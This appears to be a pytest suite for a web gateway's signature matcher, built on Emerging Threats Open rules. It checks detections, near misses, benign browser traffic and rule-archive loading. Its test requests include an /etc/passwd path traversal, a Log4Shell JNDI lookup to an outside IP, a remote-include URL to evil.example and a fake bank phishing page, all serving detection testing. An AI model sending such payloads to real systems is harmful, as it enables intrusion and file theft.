"""swg/httpsig against the real Emerging Threats Open rules, read through the runtime loader
(swg/runtime/httpsig_import.py) from ../shared/data (outside the repository: the product never
ships ET rules). Real rules must load in numbers, concrete rules must fire on requests built to
match them and stay quiet on near misses, and ordinary browser traffic must trigger nothing.
The loader's own file handling (directory, file, .tar.gz, .zip, limits) is checked on small
files made here, so it runs without the data too."""

from __future__ import annotations

import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from swg.httpsig import HttpRequestView, HttpResponseView, request_buffers
from swg.httpsig.match import signature_matches
from swg.httpsig.ruleset import applies
from swg.runtime.httpsig_import import (
    HttpRulesetSlot,
    HttpSignatureImport,
    HttpSignatureImportError,
    import_rules,
)

DATA = Path(__file__).resolve().parents[3].parent / "shared" / "data" / "et-open-suricata"
ET_OPEN = DATA / "rules-2024-04-21-suricata-5.0-enhanced"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.4 Safari/605.1.15")


@pytest.fixture(scope="module")
def et_open() -> HttpSignatureImport:
    if not ET_OPEN.is_dir() or not any(ET_OPEN.glob("*.rules")):
        pytest.skip(f"ET Open rules not found under {ET_OPEN} (../shared/data, outside the repository)")
    imported = import_rules(ET_OPEN)
    print(f"\nET Open: {len(imported.files)} files read in {imported.read_seconds:.2f} s, "
          f"parsed and indexed in {imported.parse_seconds:.2f} s\n{imported.report.summary(12)}")
    return imported


def browser(method: str, target: str, host: str, ua: str = CHROME, body: bytes = b"",
            extra: tuple[tuple[str, str], ...] = (), tls: bool = True) -> HttpRequestView:
    headers = [("Host", host), ("User-Agent", ua),
               ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
               ("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"), ("Accept-Encoding", "gzip, deflate, br"),
               ("Connection", "keep-alive"), ("Referer", f"https://{host}/"), *extra]
    return HttpRequestView.of(method, target, headers, body, tls=tls)


def test_a_good_number_of_http_rules_load(et_open: HttpSignatureImport) -> None:
    report, ruleset = et_open.report, et_open.ruleset
    assert report.error_count == 0, report.summary()       # ET Open is well formed: nothing malformed
    assert report.loaded == len(ruleset) > 12_000
    assert ruleset.count("request") > 10_000 and ruleset.count("response") > 2_000
    assert report.disabled > 6_000                          # the commented-out rules are counted only
    for reason in ("not http (dns)", "not http (tls)", "unsupported keyword flowbits",
                   "not http (tcp payload)"):
        assert report.skip_reasons[reason] > 500, reason
    assert report.skip_reasons["pcre not compilable by Python re"] < 10
    assert ruleset.unanchored("request") + ruleset.unanchored("response") < 50   # nearly all prefiltered


def post_json(path: str, body: bytes) -> HttpRequestView:
    return browser("POST", path, "10.0.0.2", body=body, extra=(("Content-Type", "application/json"),),
                   tls=False)


# (sid, a request built to match the rule, a near miss that must not)
CONCRETE = [
    (2028834,   # http.user_agent; content:"IExplorer 34"; bsize:12;
     browser("GET", "/", "update.example.net", ua="IExplorer 34"),
     browser("GET", "/", "update.example.net", ua="IExplorer 345")),
    (2013846,   # http.host; content:".ez-dns.com"; endswith;
     browser("GET", "/x", "c2.ez-dns.com"),
     browser("GET", "/x", "c2.ez-dns.com.example.jp")),
    (2049400,   # http.uri; content:"/etc/passwd"; nocase;
     browser("GET", "/cgi-bin/view?file=../../../../ETC/PASSWD", "10.0.0.4", tls=False),
     browser("GET", "/cgi-bin/view?file=/etc/password-policy.html", "10.0.0.4", tls=False)),
    (2014986,   # http.uri; content:"...jsp?"; content:"href="; pcre:"/^\s*(?:ftps?|https?|php)\:\//Ri"
     browser("GET", "/rds-help/advanced/deferredView.jsp?href= HTTP://evil.example/", "10.0.0.1", tls=False),
     browser("GET", "/rds-help/advanced/deferredView.jsp?href=/local/page.html", "10.0.0.1", tls=False)),
    (2028928,   # request body, relative contents, a pcre with a named back-reference (?P=num_value)
     post_json("/portal/", b'{"jsonrpc":"2.0","method":"/getEnterpriseUser","params":{"id":12},"id":12}'),
     post_json("/portal/", b'{"jsonrpc":"2.0","method":"/getEnterpriseUser","params":{"id":12},"id":13}')),
    (2034647,   # log4j: ${jndi:ldap: in the URI
     browser("GET", "/?x=${jndi:ldap://203.0.113.9/a}", "www.example.jp"),
     browser("GET", "/?x=jndi-ldap-docs", "www.example.jp")),
]


@pytest.mark.parametrize("sid,matching,near_miss", CONCRETE, ids=[str(case[0]) for case in CONCRETE])
def test_concrete_et_rules_fire(et_open: HttpSignatureImport, sid: int, matching: HttpRequestView,
                                near_miss: HttpRequestView) -> None:
    assert et_open.ruleset.by_sid(sid) is not None, f"sid {sid} did not load"
    assert sid in {hit.sid for hit in et_open.ruleset.match(matching)}
    assert sid not in {hit.sid for hit in et_open.ruleset.match(near_miss)}


def test_a_phishing_page_fires_a_response_rule(et_open: HttpSignatureImport) -> None:
    request = browser("GET", "/boa/done.php", "secure-update.example")
    page = (b"<html><head><title>Bank of America | Thank you</title></head><body>Your information.Your "
            b"submitted details will be reviewed by our Accounts Management Department in 24 hours"
            b"</body></html>")
    response = HttpResponseView.of(200, "OK", [("Content-Type", "text/html")], page)
    hits = et_open.ruleset.match_response(request, response)
    assert 2031686 in {hit.sid for hit in hits}
    ordinary = HttpResponseView.of(200, "OK", [("Content-Type", "text/html")],
                                   b"<html><head><title>Bank of America</title></head></html>")
    assert 2031686 not in {hit.sid for hit in et_open.ruleset.match_response(request, ordinary)}


BENIGN_PATHS = [("GET", "/", b""), ("GET", "/soshiki/kikaku/123.html", b""),
                ("GET", "/static/css/main.css?v=3", b""), ("GET", "/favicon.ico", b""),
                ("GET", "/search?q=%E5%AD%90%E8%82%B2%E3%81%A6&page=2", b""),
                ("POST", "/contact/form", b"name=%E5%B1%B1%E7%94%B0&email=taro%40example.jp&msg=hello"),
                ("POST", "/api/v1/events", b'{"type":"click","target":"menu"}')]


@pytest.mark.parametrize("ua", [CHROME, FIREFOX, SAFARI], ids=["chrome", "firefox", "safari"])
def test_ordinary_browsing_triggers_nothing(et_open: HttpSignatureImport, ua: str) -> None:
    noisy = {}
    for host in ("www.example.jp", "www.city.example.lg.jp", "www.yahoo.co.jp"):
        for method, path, body in BENIGN_PATHS:
            extra = (("Cookie", "_ga=GA1.2.3; session=abcdef"),)
            if body:
                extra += (("Content-Type", "application/x-www-form-urlencoded"),
                          ("Content-Length", str(len(body))))
            request = browser(method, path, host, ua=ua, body=body, extra=extra)
            if hits := et_open.ruleset.match(request):
                noisy[f"{method} {host}{path}"] = [(hit.sid, hit.msg) for hit in hits]
    assert not noisy


def test_the_prefilter_loses_nothing_on_real_rules(et_open: HttpSignatureImport) -> None:
    """The indexed rule set against trying every request signature, on requests that wake real
    anchors (a few only: trying all ~11,500 signatures takes tens of ms a request)."""
    requests = [case[1] for case in CONCRETE] + [browser("POST", "/contact/form", "www.example.jp",
                                                         body=b"name=a&email=b%40example.jp")]
    signatures = [s for s in et_open.ruleset.signatures if s.phase == "request"]
    for request in requests:
        buffers = request_buffers(request)
        brute = tuple(s.sid for s in signatures if applies(s, request) and signature_matches(
            s, buffers, lambda name, b=buffers: (b.get(name) or b"").lower()))
        assert tuple(hit.sid for hit in et_open.ruleset.match(request)) == brute, request.raw_uri


def test_matching_speed_is_recorded(et_open: HttpSignatureImport) -> None:
    requests = [browser(m, p, "www.example.jp", body=b) for m, p, b in BENIGN_PATHS]
    requests += [case[1] for case in CONCRETE]
    rounds = 20
    started = time.perf_counter()
    for _ in range(rounds):
        for request in requests:
            et_open.ruleset.match(request)
    per_request = (time.perf_counter() - started) / (rounds * len(requests))
    print(f"\nET Open match: {per_request * 1e6:.0f} µs per request over {len(requests)} requests")
    assert per_request > 0


# -- the loader's file handling (no ET data needed) -------------------------------------------------------

RULE_A = 'alert http any any -> any any (msg:"a"; http.uri; content:"/a"; sid:1;)\n'
RULE_B = ('alert http any any -> any any (msg:"b"; http.uri; content:"/b"; sid:2;)\n'
          'alert http any any -> any any (msg:"bad"; http.uri; content:"|zz|"; sid:3;)\n')


def write_rules(root: Path) -> Path:
    (root / "rules" / "sub").mkdir(parents=True)
    (root / "rules" / "a.rules").write_text(RULE_A)
    (root / "rules" / "sub" / "b.rules").write_text(RULE_B)
    (root / "rules" / "notes.txt").write_text("not rules")
    return root / "rules"


def test_a_directory_is_read_recursively(tmp_path: Path) -> None:
    imported = import_rules(write_rules(tmp_path))
    assert imported.files == ("a.rules", "sub/b.rules")
    assert (imported.report.loaded, imported.report.error_count) == (2, 1)
    assert str(imported.report.errors[0]) == "sub/b.rules:2: bad character 'z' in a content hex run"


def test_archives_as_et_publishes_them(tmp_path: Path) -> None:
    rules = write_rules(tmp_path)
    with tarfile.open(tmp_path / "emerging.rules.tar.gz", "w:gz") as archive:
        archive.add(rules, arcname="rules")
    with zipfile.ZipFile(tmp_path / "emerging.rules.zip", "w") as archive:
        archive.write(rules / "a.rules", "rules/a.rules")
        archive.write(rules / "sub" / "b.rules", "rules/sub/b.rules")
    for name in ("emerging.rules.tar.gz", "emerging.rules.zip"):
        imported = import_rules(tmp_path / name)
        assert imported.files == ("rules/a.rules", "rules/sub/b.rules"), name
        request = HttpRequestView.of("GET", "/b", [("Host", "h")])
        assert [hit.sid for hit in imported.ruleset.match(request)] == [2]


def test_unreadable_paths_are_clear_errors(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "x.tar.gz").write_bytes(b"not a tar")
    (tmp_path / "big.rules").write_text(RULE_A * 100)
    for path, limit, message in [(tmp_path / "missing.rules", None, "cannot read"),
                                 (tmp_path / "empty", None, "no .rules files"),
                                 (tmp_path / "x.tar.gz", None, "broken archive"),
                                 (tmp_path / "big.rules", 1000, "more than the limit of 1,000")]:
        with pytest.raises(HttpSignatureImportError, match=message):
            import_rules(path) if limit is None else import_rules(path, max_file_bytes=limit)


def test_a_failed_reload_keeps_the_rules_in_force(tmp_path: Path) -> None:
    slot = HttpRulesetSlot()
    slot.reload(write_rules(tmp_path))
    before = slot.ruleset
    with pytest.raises(HttpSignatureImportError):
        slot.reload(tmp_path / "missing")
    assert slot.ruleset is before and len(before) == 2
